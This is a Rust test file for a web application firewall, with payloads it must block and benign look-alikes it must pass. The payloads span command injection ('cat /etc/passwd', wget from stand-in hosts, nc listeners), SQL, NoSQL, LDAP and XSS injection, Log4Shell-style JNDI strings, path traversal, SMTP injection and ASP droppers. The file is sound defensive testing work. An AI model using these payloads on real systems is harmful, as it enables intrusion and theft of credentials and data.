//! Round 7 rule tests: rule classes the CRS check half showed we had no rule for (commands
//! as the whole `User-Agent` / `Referer`, error-based double queries, whole-value probe
//! calls, namespaced script tags), each with attacks it must block and benign twins it must
//! pass.

mod common;

use common::{attack, benign, shared};

/// Inspects a request whose only unusual part is header `name: value`.
fn with_header(name: &str, value: &str) -> portcullis_firewall::Verdict {
    let req = http::Request::builder()
        .uri("/api/v1/things")
        .header("host", "api.example.com")
        .header(name, value)
        .body(())
        .expect("request");
    let (parts, ()) = req.into_parts();
    shared().inspect(&parts, &[])
}

fn header_blocked(name: &str, value: &str, rule: &str) {
    let v = with_header(name, value);
    assert!(v.blocked, "{name}: {value:?} allowed ({:?})", v.rule_ids());
    assert!(
        v.rule_ids().contains(&rule),
        "{name}: {value:?} blocked by {:?}, not {rule}",
        v.rule_ids()
    );
}

fn header_passes(name: &str, value: &str) {
    let v = with_header(name, value);
    assert!(!v.blocked, "{name}: {value:?} refused ({:?})", v.rule_ids());
}

#[test]
fn cmdi_132_a_command_line_as_user_agent_or_referer() {
    header_blocked("user-agent", "ansible all -m ping", "cmdi-132");
    header_blocked("user-agent", "'cscli' alerts list", "cmdi-132");
    header_blocked("user-agent", "set -o history", "cmdi-132");
    header_blocked(
        "user-agent",
        "/usr/bin/wget -qO- http://x.example/s",
        "cmdi-132",
    );
    header_blocked("referer", "env --version", "cmdi-132");
    header_blocked("referer", "cat /etc/passwd", "cmdi-132");
    // Real agents: product/version tokens, bare product names, English words.
    for ua in [
        "curl/8.5.0",
        "Wget/1.21.3",
        "python-requests/2.31.0",
        "Ruby",
        "ansible-httpget",
        "kubectl/v1.29.0 (linux/amd64) kubernetes/4b7e",
        "Debian APT-HTTP/1.3 (2.6.1)",
        "Source Code Fetcher 1.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "lua-resty-http/0.17.1 (Lua) ngx_lua/10025",
        "Docker-Client/24.0.7 (linux)",
    ] {
        header_passes("user-agent", ua);
    }
    header_passes("referer", "https://app.example.com/settings?tab=env");
    header_passes("referer", "https://docs.example.com/cli/ansible-all-m-ping");
    // The same command line in a body field is a documentation value, not this rule.
    let v = {
        let (parts, body) = common::build("json", "ansible all -m ping", Some("code"));
        shared().inspect(&parts, &body)
    };
    assert!(!v.rule_ids().contains(&"cmdi-132"), "{:?}", v.rule_ids());
}

#[test]
fn cmdi_126_a_variable_run_with_an_option() {
    attack("cmdi-126", "query", "q", "a=nc&&$a -nlvp 555");
    attack("cmdi-126", "header", "x-data", "t=/bin/sh;$t -i");
    benign("json", "snippet", "$a - $b");
    benign("json", "snippet", "x=1; total = $x - 2");
}

#[test]
fn sqli_140_error_based_double_queries_and_nested_subqueries() {
    attack(
        "sqli-140",
        "form",
        "id",
        "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    );
    attack(
        "sqli-140",
        "query",
        "q",
        "from(select count(*),concat((select (select concat(user_name,0x7c,password)) from admin limit 1)",
    );
    attack(
        "sqli-140",
        "json",
        "q",
        "x' and (select (select 1) from dual)",
    );
    benign(
        "json",
        "note",
        "pick a random floor (rand 0 to 2) for the next game",
    );
    benign(
        "json",
        "note",
        "count the rows (selected ones) and concatenate them",
    );
}

#[test]
fn xss_118_a_whole_value_probe_call() {
    attack("xss-118", "query", "q", "alert()");
    attack("xss-118", "query", "q", "prompt(1)");
    attack("xss-118", "form", "arg", "setInterval(code, 1)");
    attack("xss-118", "json", "arg", "atob(location.hash)");
    benign("query", "label", "Confirm (optional)");
    benign("json", "note", "Set an alert() reminder in the app for 9am");
    benign("json", "status", "prompt");
}

#[test]
fn xss_101_namespaced_script_tags() {
    attack(
        "xss-101",
        "query",
        "body",
        "< x: script>alert(1)</x:script>",
    );
    attack(
        "xss-101",
        "json",
        "html",
        "<svg:script href=//x.example/a.js>",
    );
    benign("json", "note", "the x:script attribute of our build tool");
}

/// Base64 of `s` (standard alphabet, padding removed as attack tools send it).
fn b64(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD_NO_PAD.encode(s)
}

#[test]
fn base64_values_are_decoded_and_their_text_inspected() {
    for (placement, payload) in [
        ("query", "' union select password from users--"),
        ("form", "<script>alert(document.cookie)</script>"),
        ("json", "; cat /etc/passwd"),
        ("header", "${jndi:ldap://x.example/a}"),
        ("path_pre", "../../../../etc/shadow"),
    ] {
        let (parts, body) = common::build(placement, &b64(payload), Some("data"));
        let v = shared().inspect(&parts, &body);
        assert!(v.blocked, "base64 of {payload:?} in {placement} allowed");
        assert!(
            v.matches.iter().any(|m| m.excerpt.starts_with("base64: ")),
            "{:?}",
            v.matches
        );
    }
    // Base64 of harmless text, of JSON, binary and tokens pass.
    benign(
        "query",
        "state",
        &b64("{\"return_to\":\"/dashboard\",\"tab\":2}"),
    );
    benign("json", "note", &b64("O'Brien & Sons, est. 1921 -- Dublin"));
    benign(
        "json",
        "avatar",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    );
    benign(
        "query",
        "cursor",
        "eyJpZCI6MTIzNCwic29ydCI6ImNyZWF0ZWRfYXQifQ",
    );
    // Off when the limit is 0.
    let mut spec = portcullis_firewall::FirewallSpec::default();
    spec.limits.max_base64_bytes = 0;
    let fw = portcullis_firewall::Firewall::new(&spec).expect("firewall");
    let (parts, body) = common::build(
        "query",
        &b64("' union select password from users--"),
        Some("q"),
    );
    assert!(!fw.inspect(&parts, &body).blocked);
}

/// The rules and normalisation added for classes the gotestwaf measurement showed
/// (`tests/gotestwaf.rs`), each with benign twins.
#[test]
fn xss_119_indirect_sink_calls() {
    attack("xss-119", "query", "q", "confirm.call(null,1)");
    attack("xss-119", "json", "q", "alert.apply(null, [1])");
    attack("xss-119", "form", "q", "alert?.(document?.cookie)");
    benign(
        "json",
        "note",
        "Please confirm the call with the client by Friday.",
    );
    benign("json", "snippet", "fn.call(this, args); handler?.(event)");
}

#[test]
fn nosql_106_an_operator_key_after_a_closed_string() {
    attack("nosql-106", "query", "user", "', $or: [ {}, { 'a':'a");
    attack("nosql-106", "json", "user", "\", $where: \"sleep(100)");
    benign("json", "note", "Prices are in USD ('$'), EUR and GBP");
    benign("json", "note", "They said \"yes\", $5 each: fine");
}

#[test]
fn ldap_106_extensible_match() {
    attack("ldap-106", "query", "user", "userPassword:2.5.13.18:=123");
    attack("ldap-106", "form", "user", "x)(cn:dn:caseExactMatch:=admin");
    benign(
        "json",
        "note",
        "ratio 2.5:1, see https://example.com:8443/a",
    );
    benign("query", "time", "12:30:45");
}

#[test]
fn lfi_113_admin_shares_and_registry_hives() {
    attack(
        "lfi-113",
        "query",
        "file",
        "\\\\::1\\c$\\users\\default\\ntuser.dat",
    );
    attack(
        "lfi-113",
        "json",
        "path",
        "\\\\fileserver\\admin$\\system32",
    );
    // (A UNC path to any server is refused by rfi-105 already.)
    benign("json", "path", "C:\\Users\\me\\reports\\2024.xlsx");
    benign("json", "note", "costs $5/month, see //cdn.example.com/a");
}

#[test]
fn smtp_commands_after_any_line_break() {
    attack(
        "cmdi-118",
        "query",
        "subject",
        "hi\nRCPT TO: victim@evil.example\n",
    );
    attack(
        "cmdi-118",
        "form",
        "from",
        "a@b.example\nMAIL FROM:<x@evil.example>",
    );
    benign("json", "note", "Reply to: support@example.com\nThanks");
}

#[test]
fn code_114_php_complex_syntax_call() {
    attack("code-114", "form", "cmd", "${@print(md5(31337))}");
    benign("json", "template", "Hello ${name}, total ${price(2)}");
}

#[test]
fn form_encoded_plus_is_a_space_and_invisible_characters_are_dropped() {
    // `+` written by a form encoder, in places no form decoder ran (path, JSON string).
    common::blocked("path_pre", "x", "%3B+cat+%2Fetc%2Fpasswd");
    common::blocked("json", "cmd", "%3Bwget+http%3A%2F%2Fsome_host%2Fsh311.sh");
    benign(
        "json",
        "title",
        "JavaScript%3A+Basics+of+JavaScript+Language",
    );
    benign("json", "expr", "C++ is 1 + 1 %3D 2");
    // A byte order mark hidden in a scheme.
    common::blocked("query", "url", "javascript:\u{feff}alert(XSS)");
    benign("json", "name", "Zoë\u{200d}👩\u{200d}💻 O'Neil");
}

#[test]
fn nosql_107_108_writes_and_statement_breaks() {
    attack(
        "nosql-107",
        "query",
        "q",
        "db.injection.insert({success:1});",
    );
    attack("nosql-107", "json", "q", "x';db.users.drop()");
    attack(
        "nosql-108",
        "form",
        "q",
        "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
    );
    attack("nosql-108", "query", "q", ";while(true){}");
    benign(
        "json",
        "note",
        "Use db.orders.find() to list them, see the docs",
    );
    benign("json", "csv", "id;var;value\n1;x;2");
    benign("json", "note", "Note; variables are set later");
}

#[test]
fn code_115_asp_droppers() {
    attack(
        "code-115",
        "query",
        "q",
        "Ev al (\"Ex\"&\"e\"&\"cute(\"\"x\"\")\")",
    );
    attack(
        "code-115",
        "form",
        "q",
        "Server.ScriptTimeout=3600:On Error Resume Next:Execute(x)",
    );
    benign("json", "note", "Tom & \"Jerry\" & \"Spike\" are on air");
    benign(
        "json",
        "note",
        "On error, resume next week and execute the plan",
    );
}

#[test]
fn graphql_101_introspection() {
    attack(
        "graphql-101",
        "json",
        "query",
        "query IntrospectionQuery { __schema { queryType { name } types { name } } }",
    );
    attack(
        "graphql-101",
        "query",
        "query",
        "{__type(name: \"User\") { fields { name } }}",
    );
    benign(
        "json",
        "query",
        "query { user(id: 1) { __typename name email } }",
    );
    benign(
        "json",
        "note",
        "the __schema folder holds our SQL migrations",
    );
}
